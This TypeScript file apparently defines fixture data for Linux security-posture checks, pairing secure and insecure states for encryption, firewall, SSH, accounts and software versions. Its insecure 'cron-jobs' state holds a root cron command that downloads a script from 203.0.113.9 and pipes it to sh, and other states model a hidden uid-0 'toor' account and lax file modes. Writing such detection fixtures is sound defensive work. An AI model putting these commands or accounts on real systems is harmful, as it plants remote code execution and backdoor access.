import { only, put, remove, set } from '../personas/template-rows.ts'
import type { TemplateChange } from '../personas/template-rows.ts'
import {
  COMMON_KNOBS,
  augeasValue,
  debPackage,
  rpmPackage,
  systemdUnit,
} from './shared-knob-rows.ts'
import { knobsOf } from './knob.ts'
import type { KnobSource } from './knob.ts'
import { POSIX_KNOBS } from './posix-knobs.ts'

const SSHD_CONFIG = '/etc/ssh/sshd_config'
const AUTO_UPGRADES = '/etc/apt/apt.conf.d/20auto-upgrades'
const UFW_MODULES = ['xt_hl', 'ip6t_rt']

function diskEncryption(isEncrypted: boolean): TemplateChange[] {
  return ['/dev/dm-0', '/dev/dm-1'].map((name) =>
    set(
      'disk_encryption',
      {
        encrypted: isEncrypted ? 1 : 0,
        type: isEncrypted ? 'aes-xts-plain64' : '',
        encryption_status: isEncrypted ? 'encrypted' : 'not encrypted',
      },
      { name },
    ),
  )
}

function firewall(isOn: boolean): TemplateChange[] {
  return [
    ...only('ubuntu', systemdUnit('ufw.service', isOn)),
    ...only('fedora', systemdUnit('firewalld.service', isOn)),
    set('iptables', { policy: isOn ? 'DROP' : 'ACCEPT' }, { chain: 'INPUT', target: '' }),
    ...UFW_MODULES.map((name) =>
      isOn
        ? put('kernel_modules', { name, size: 16_384, used_by: '-', status: 'Live' }, 'name')
        : remove('kernel_modules', { name }),
    ),
  ]
}

function osVersion(row: Record<string, string | number>): TemplateChange {
  return put('os_version', { arch: 'x86_64', build: '', patch: 0, ...row }, 'platform')
}

const UBUNTU = { name: 'Ubuntu', platform: 'ubuntu', platform_like: 'debian' }
const FEDORA = { name: 'Fedora Linux', platform: 'fedora', platform_like: '', minor: 0 }

function installed(name: string, version: string): TemplateChange[] {
  return [
    ...only('ubuntu', debPackage(name, version)),
    ...only('fedora', rpmPackage(name, version)),
  ]
}

function notInstalled(name: string): TemplateChange[] {
  return [
    ...only('ubuntu', remove('deb_packages', { name })),
    ...only('fedora', remove('rpm_packages', { name })),
  ]
}

/** A knob that is good while a systemd service does not run. */
function serviceOff(name: string, title: string, unit: string, port: number): KnobSource {
  const listener = { pid: 1_212, port, protocol: 6, family: 2, address: '0.0.0.0' }
  return {
    name,
    title,
    good: [systemdUnit(unit, false), remove('listening_ports', { port })],
    bad: [systemdUnit(unit, true), put('listening_ports', listener, 'port')],
  }
}

/** A knob that is good while a file has a mode. */
function fileMode(name: string, title: string, path: string, modes: [string, string]): KnobSource {
  const [directory, filename] = [path.slice(0, path.lastIndexOf('/')), path.split('/').at(-1) ?? '']
  const row = {
    path,
    directory,
    filename,
    uid: 0,
    gid: 0,
    type: 'regular',
    size: 1_980,
    symlink: 0,
  }
  return {
    name,
    title,
    good: [put('file', { ...row, mode: modes[0] }, 'path')],
    bad: [put('file', { ...row, mode: modes[1] }, 'path')],
  }
}

const SYSTEM_KNOBS: readonly KnobSource[] = [
  {
    name: 'disk-encryption',
    title: 'The root file system is encrypted',
    good: diskEncryption(true),
    bad: diskEncryption(false),
  },
  { name: 'firewall', title: 'A firewall is on', good: firewall(true), bad: firewall(false) },
  {
    name: 'automatic-updates',
    title: 'Updates are installed by themselves',
    good: [
      ...only(
        'ubuntu',
        debPackage('unattended-upgrades', '2.13ubuntu1'),
        systemdUnit('apt-daily-upgrade.timer', true),
        augeasValue(AUTO_UPGRADES, 'Unattended-Upgrade', '1'),
      ),
      ...only(
        'fedora',
        rpmPackage('dnf5-plugin-automatic', '5.4.1'),
        systemdUnit('dnf5-automatic.timer', true),
      ),
    ],
    bad: [
      ...only(
        'ubuntu',
        systemdUnit('apt-daily-upgrade.timer', false),
        augeasValue(AUTO_UPGRADES, 'Unattended-Upgrade', '0'),
      ),
      ...only('fedora', systemdUnit('dnf5-automatic.timer', false)),
    ],
  },
  {
    name: 'os-version',
    title: 'The distribution is a supported release',
    good: [
      ...only(
        'ubuntu',
        osVersion({
          ...UBUNTU,
          version: '26.04 LTS (Resolute Raccoon)',
          major: 26,
          minor: 4,
          codename: 'resolute',
        }),
      ),
      ...only(
        'fedora',
        osVersion({ ...FEDORA, version: '44 (Workstation Edition)', major: 44, codename: '' }),
      ),
    ],
    bad: [
      ...only(
        'ubuntu',
        osVersion({
          ...UBUNTU,
          version: '20.04.6 LTS (Focal Fossa)',
          major: 20,
          minor: 4,
          codename: 'focal',
        }),
      ),
      ...only(
        'fedora',
        osVersion({ ...FEDORA, version: '38 (Workstation Edition)', major: 38, codename: '' }),
      ),
    ],
  },
  {
    name: 'kernel-version',
    title: 'The kernel is current',
    good: [put('kernel_info', kernel('7.0.4-generic'), 'path')],
    bad: [put('kernel_info', kernel('5.4.0-42-generic'), 'path')],
  },
  {
    name: 'secure-boot',
    title: 'Secure Boot is on',
    good: [set('secureboot', { secure_boot: 1, setup_mode: 0 })],
    bad: [set('secureboot', { secure_boot: 0, setup_mode: 0 })],
  },
  {
    name: 'mandatory-access-control',
    title: 'AppArmor or SELinux enforces',
    good: [
      ...only(
        'ubuntu',
        set('apparmor_profiles', { mode: 'enforce' }),
        systemdUnit('apparmor.service', true),
      ),
      ...only('fedora', put('selinux_settings', { scope: '', key: 'enforce', value: '1' }, 'key')),
    ],
    bad: [
      ...only(
        'ubuntu',
        set('apparmor_profiles', { mode: 'complain' }),
        systemdUnit('apparmor.service', false),
      ),
      ...only('fedora', put('selinux_settings', { scope: '', key: 'enforce', value: '0' }, 'key')),
    ],
  },
  {
    name: 'time-synchronisation',
    title: 'The clock is synchronised',
    good: [systemdUnit('systemd-timesyncd.service', true)],
    bad: [systemdUnit('systemd-timesyncd.service', false)],
  },
  {
    name: 'audit-daemon',
    title: 'The audit daemon runs',
    good: [systemdUnit('auditd.service', true)],
    bad: [systemdUnit('auditd.service', false)],
  },
  {
    name: 'disk-space',
    title: 'The disk has room',
    good: [set('mounts', { blocks_free: 74_000_000, blocks_available: 68_000_000 }, { path: '/' })],
    bad: [set('mounts', { blocks_free: 1_900_000, blocks_available: 900_000 }, { path: '/' })],
  },
]

const ACCESS_KNOBS: readonly KnobSource[] = [
  serviceOff('remote-login', 'The SSH server does not run', 'ssh.service', 22),
  serviceOff('remote-desktop', 'Remote desktop is off', 'gnome-remote-desktop.service', 3389),
  serviceOff('file-sharing', 'No file server runs', 'smbd.service', 445),
  serviceOff('telnet', 'No telnet server runs', 'telnet.socket', 23),
  {
    name: 'ssh-root-login',
    title: 'root cannot sign in over SSH',
    good: [augeasValue(SSHD_CONFIG, 'PermitRootLogin', 'no')],
    bad: [augeasValue(SSHD_CONFIG, 'PermitRootLogin', 'yes')],
  },
  {
    name: 'ssh-password-authentication',
    title: 'SSH accepts keys only',
    good: [augeasValue(SSHD_CONFIG, 'PasswordAuthentication', 'no')],
    bad: [augeasValue(SSHD_CONFIG, 'PasswordAuthentication', 'yes')],
  },
  {
    name: 'empty-passwords',
    title: 'Every account has a password',
    good: [remove('shadow', { username: 'kiosk' }), remove('users', { username: 'kiosk' })],
    bad: [
      put('shadow', { username: 'kiosk', password_status: 'empty', hash_alg: '' }, 'username'),
      put(
        'users',
        { uid: 1_002, gid: 1_002, username: 'kiosk', directory: '/home/kiosk', shell: '/bin/bash' },
        'username',
      ),
    ],
  },
  {
    name: 'root-account',
    title: 'The root account is locked',
    good: [set('shadow', { password_status: 'locked', hash_alg: '' }, { username: 'root' })],
    bad: [set('shadow', { password_status: 'active', hash_alg: '1' }, { username: 'root' })],
  },
  {
    name: 'single-root',
    title: 'Only root has user id 0',
    good: [remove('users', { username: 'toor' })],
    bad: [
      put(
        'users',
        { uid: 0, gid: 0, username: 'toor', directory: '/root', shell: '/bin/sh' },
        'username',
      ),
    ],
  },
  {
    name: 'docker-group',
    title: 'The person is not in the docker group',
    good: [remove('user_groups', { gid: 998 })],
    bad: [
      put('groups', { gid: 998, gid_signed: 998, groupname: 'docker' }, 'gid'),
      put('user_groups', { uid: '{uid}', gid: 998 }, 'gid'),
    ],
  },
  {
    name: 'cron-jobs',
    title: 'No cron job downloads and runs code',
    good: [remove('crontab', { path: '/etc/cron.d/update-check' })],
    bad: [
      put(
        'crontab',
        {
          minute: '*/5',
          hour: '*',
          day_of_month: '*',
          month: '*',
          day_of_week: '*',
          command: 'root curl -s http://203.0.113.9/u.sh | sh',
          path: '/etc/cron.d/update-check',
        },
        'path',
      ),
    ],
  },
  fileMode('passwd-permissions', 'Only root writes /etc/passwd', '/etc/passwd', ['0644', '0666']),
  fileMode('shadow-permissions', 'Nobody else reads /etc/shadow', '/etc/shadow', ['0640', '0644']),
]

const SOFTWARE_KNOBS: readonly KnobSource[] = [
  {
    name: 'password-manager',
    title: 'A password manager is installed',
    good: installed('1password', '8.12.4'),
    bad: notInstalled('1password'),
  },
  {
    name: 'chrome-version',
    title: 'Chrome is up to date',
    good: installed('google-chrome-stable', '151.0.7922.60-1'),
    bad: installed('google-chrome-stable', '118.0.5993.70-1'),
  },
  {
    name: 'edge-version',
    title: 'Edge is up to date',
    good: installed('microsoft-edge-stable', '151.0.3981.40-1'),
    bad: installed('microsoft-edge-stable', '118.0.2088.46-1'),
  },
  {
    name: 'firefox-version',
    title: 'Firefox is up to date',
    good: installed('firefox-esr', '153.1.0'),
    bad: installed('firefox-esr', '115.3.1'),
  },
  {
    name: 'endpoint-detection',
    title: 'The endpoint detection agent runs',
    good: [
      ...installed('falcon-sensor', '7.34.0-18900'),
      systemdUnit('falcon-sensor.service', true),
    ],
    bad: [...notInstalled('falcon-sensor'), systemdUnit('falcon-sensor.service', false)],
  },
  {
    name: 'unwanted-software',
    title: 'No unwanted software is installed',
    good: notInstalled('transmission-gtk'),
    bad: installed('transmission-gtk', '4.1.0'),
  },
]

function kernel(version: string): Record<string, string> {
  const path = '/boot/vmlinuz'
  return { version, arguments: 'ro quiet splash', path, device: '/dev/mapper/vg-root' }
}

/** The knobs of Linux. */
export const LINUX_KNOBS = knobsOf('linux', [
  ...SYSTEM_KNOBS,
  ...ACCESS_KNOBS,
  ...SOFTWARE_KNOBS,
  ...POSIX_KNOBS,
  ...COMMON_KNOBS,
])
